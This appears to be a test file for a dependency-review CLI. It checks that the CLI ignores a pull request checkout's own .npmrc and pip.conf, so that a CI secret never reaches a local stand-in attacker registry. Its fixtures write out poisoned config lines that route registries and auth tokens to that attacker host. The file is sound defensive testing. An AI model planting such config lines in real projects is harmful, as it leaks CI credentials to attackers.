/**
 * Issue 10, item 12: the CLI run in a pull request's checkout must not take hosts or credentials from
 * the checkout's own configuration. The real CLI `main` reviews a poisoned change in a temp "checkout"
 * whose `.npmrc` (or virtualenv `pip.conf`) points at an attacker's registry on 127.0.0.1 that
 * records every request and its Authorization header; the user's own configuration points at the
 * fixture registry / index. `--trust-project-config` opts back in.
 */
import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { main } from '../../src/cli/main.js';
import { startFixtureRegistry } from '../../test-support/fixture-registry.js';
import { startFixtureIndex } from '../../test-support/fixture-index.js';
import { startAttackerRegistry, type AttackerRegistry } from './attacker-registry.js';

const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..', '..');
const SECRET = 'ci-secret-token-4711';
const NOW = '2026-03-31T02:00:00.000Z';

let fixture: Awaited<ReturnType<typeof startFixtureRegistry>>;
let index: Awaited<ReturnType<typeof startFixtureIndex>>;
let attacker: AttackerRegistry;
let tmp: string;
let checkout: string;
let home: string;

beforeAll(async () => {
  fixture = await startFixtureRegistry();
  index = await startFixtureIndex();
});
afterAll(async () => {
  await fixture.close();
  await index.close();
});

beforeEach(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), 'lockwarden-item12-'));
  checkout = path.join(tmp, 'checkout');
  home = path.join(tmp, 'home');
  await mkdir(home, { recursive: true });
  // the pull request's checkout: the demo change (axios 1.14.1 and its dropper), a package.json like a real project
  await cp(path.join(root, 'examples', 'demo'), checkout, { recursive: true });
  await cp(path.join(checkout, 'head', 'package.json'), path.join(checkout, 'package.json'));
});
afterEach(async () => {
  await attacker?.close();
  await rm(tmp, { recursive: true, force: true });
});

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  report: { conclusion?: string; notes?: { kind: string; message: string }[]; changes?: { name: string; severity: string | null }[] };
}

async function review(args: string[], env: NodeJS.ProcessEnv, lockfiles = ['base/package-lock.json', 'head/package-lock.json']): Promise<Run> {
  let stdout = '';
  let stderr = '';
  const code = await main(['review', ...lockfiles, '--now', NOW, '--format', 'json', '--quiet', ...args], {
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: (s: string) => (stderr += s) },
    env: { LOCKWARDEN_OSV_URL: 'off', HOME: home, PIP_CONFIG_FILE: '/dev/null', ...env },
    cwd: checkout,
  });
  let report: Run['report'] = {};
  try {
    report = JSON.parse(stdout) as Run['report'];
  } catch {
    // a usage error prints no report
  }
  return { code, stdout, stderr, report };
}

/** Adds an `@evil/helper` package to the head lockfile: a scoped name the project .npmrc routes to the attacker. */
async function addScopedPackage(): Promise<void> {
  const file = path.join(checkout, 'head', 'package-lock.json');
  const lock = JSON.parse(await readFile(file, 'utf8'));
  lock.packages['node_modules/@evil/helper'] = { version: '1.0.0', resolved: `${attacker.url}@evil/helper/-/helper-1.0.0.tgz`, integrity: 'sha512-AAAA' };
  lock.packages[''].dependencies['@evil/helper'] = '^1.0.0';
  await writeFile(file, JSON.stringify(lock, null, 2));
}

const severityOf = (r: Run, name: string) => r.report.changes?.find((c) => c.name === name)?.severity;

describe("item 12: the CLI ignores the checkout's .npmrc", () => {
  it('a scoped registry and a token in the project .npmrc never receive the CI secret, even with --registry', async () => {
    attacker = await startAttackerRegistry();
    await writeFile(
      path.join(checkout, '.npmrc'),
      [`registry=${attacker.url}`, `@evil:registry=${attacker.url}`, `//127.0.0.1:${attacker.port}/:_authToken=\${CI_SECRET_TOKEN}`, ''].join('\n'),
    );
    await addScopedPackage();
    const r = await review(['--registry', fixture.url], { CI_SECRET_TOKEN: SECRET });
    expect(attacker.requests.map((q) => q.authorization)).not.toContain(`Bearer ${SECRET}`);
    expect(attacker.requests).toEqual([]);
    expect(r.stdout + r.stderr).not.toContain(SECRET);
    expect(r.code).toBe(1);
    expect(severityOf(r, 'axios')).toBe('critical');
    // said once, on stderr and in the report's notes
    expect(r.stderr.match(/\.npmrc/g)).toHaveLength(1);
    expect(r.stderr).toContain('--trust-project-config');
    expect(r.report.notes?.some((n) => n.kind === 'config-ignored' && n.message.includes('.npmrc'))).toBe(true);
  });

  it("a project registry= with clean metadata cannot override the user's ~/.npmrc: the dropper still fails", async () => {
    attacker = await startAttackerRegistry(fixture.url);
    await writeFile(path.join(checkout, '.npmrc'), `registry=${attacker.url}\n`);
    await writeFile(path.join(home, '.npmrc'), `registry=${fixture.url}\n`);
    const r = await review([], {});
    expect(attacker.requests).toEqual([]);
    expect(r.code).toBe(1);
    expect(severityOf(r, 'axios')).toBe('critical');
    expect(severityOf(r, 'plain-crypto-js')).toBe('critical');
  });

  it("`npm config get registry` (nothing else configured) is asked where it cannot read the checkout's .npmrc", async () => {
    attacker = await startAttackerRegistry(fixture.url);
    await writeFile(path.join(checkout, '.npmrc'), `registry=${attacker.url}\n`);
    // the user's npm answers with its global config: the fixture registry
    const globalrc = path.join(tmp, 'global-npmrc');
    await writeFile(globalrc, `registry=${fixture.url}\n`);
    const r = await review([], { PATH: process.env.PATH, npm_config_globalconfig: globalrc, npm_config_update_notifier: 'false' });
    expect(attacker.requests).toEqual([]);
    expect(r.code).toBe(1);
    expect(severityOf(r, 'axios')).toBe('critical');
  }, 30_000);

  it('the user configuration still works: npm_config_registry and ~/.npmrc scopes and tokens', async () => {
    attacker = await startAttackerRegistry();
    // here 127.0.0.1:<attacker> plays the user's private registry for @evil: the user's own file says so
    await writeFile(path.join(home, '.npmrc'), [`@evil:registry=${attacker.url}`, `//127.0.0.1:${attacker.port}/:_authToken=user-token`, ''].join('\n'));
    await addScopedPackage();
    const r = await review([], { npm_config_registry: fixture.url });
    expect(r.stderr).toBe('');
    expect(attacker.requests.length).toBeGreaterThan(0);
    expect(attacker.requests.every((q) => q.authorization === 'Bearer user-token')).toBe(true);
    expect(severityOf(r, 'axios')).toBe('critical');
  });

  it('--trust-project-config uses the project .npmrc (and says nothing about ignoring it)', async () => {
    attacker = await startAttackerRegistry(fixture.url);
    await writeFile(path.join(checkout, '.npmrc'), `registry=${attacker.url}\n`);
    await writeFile(path.join(home, '.npmrc'), `registry=${fixture.url}\n`);
    const r = await review(['--trust-project-config'], {});
    expect(r.stderr).toBe('');
    expect(attacker.requests.length).toBeGreaterThan(0);
    // the cleaned metadata hides the dropper: why the project's file must not be trusted by default
    expect(r.code).toBe(0);
  });
});

describe("item 12: the CLI ignores a pip.conf inside the checkout (a virtualenv's site file)", () => {
  it("a .venv/pip.conf committed to the checkout does not override the user's pip.conf", async () => {
    attacker = await startAttackerRegistry();
    const lit = path.join(root, 'examples', 'pypi', 'litellm');
    await cp(path.join(lit, 'base'), path.join(checkout, 'pybase'), { recursive: true });
    await cp(path.join(lit, 'head'), path.join(checkout, 'pyhead'), { recursive: true });
    await mkdir(path.join(checkout, '.venv'), { recursive: true });
    await writeFile(path.join(checkout, '.venv', 'pip.conf'), `[global]\nindex-url = http://ci:${SECRET}@127.0.0.1:${attacker.port}/simple/\n`);
    await mkdir(path.join(home, '.config', 'pip'), { recursive: true });
    await writeFile(path.join(home, '.config', 'pip', 'pip.conf'), `[global]\nindex-url = ${index.simpleUrl}\n`);
    const now = JSON.parse(await readFile(path.join(lit, 'scenario.json'), 'utf8')).now as string;
    let stdout = '';
    let stderr = '';
    const code = await main(['review', 'pybase/poetry.lock', 'pyhead/poetry.lock', '--now', now, '--format', 'json', '--quiet', '--registry', fixture.url], {
      stdout: { write: (s: string) => (stdout += s) },
      stderr: { write: (s: string) => (stderr += s) },
      env: { LOCKWARDEN_OSV_URL: 'off', HOME: home, VIRTUAL_ENV: path.join(checkout, '.venv'), XDG_CONFIG_DIRS: path.join(tmp, 'no-xdg') },
      cwd: checkout,
    });
    expect(attacker.requests).toEqual([]);
    expect(stdout + stderr).not.toContain(SECRET);
    expect(code).toBe(1);
    const report = JSON.parse(stdout) as Run['report'];
    expect(report.changes?.find((c) => c.name === 'litellm')?.severity).toBe('critical');
    expect(stderr).toContain('pip.conf');
    expect(stderr).toContain('--trust-project-config');
  });
});
